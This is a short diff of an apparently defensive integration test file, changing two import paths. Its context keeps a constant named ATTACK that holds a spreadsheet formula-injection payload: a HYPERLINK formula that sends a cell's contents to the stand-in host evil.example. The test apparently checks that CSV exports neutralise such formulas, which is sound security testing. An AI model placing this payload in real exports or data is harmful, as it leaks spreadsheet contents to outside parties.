@@ -14,10 +14,10 @@ from zoneinfo import ZoneInfo
 import pytest
 
 from actors.scan import run_scan
-from db.api_keys import create_api_key
+from db.events.api_keys import create_api_key
 from domain.csv_export import FORMULA_STARTS
 from tests.integration.portal_support import PASSWORD, People, PortalClient, signed_in
-from tocsin.demo_metrology import certificate_event, set_up_metrology
+from tocsin.shell.demo_metrology import certificate_event, set_up_metrology
 
 ATTACK = 'CASE-77\r=HYPERLINK("http://evil.example/?leak="&A1,"Open the case")'
 ZONE = "Europe/London"
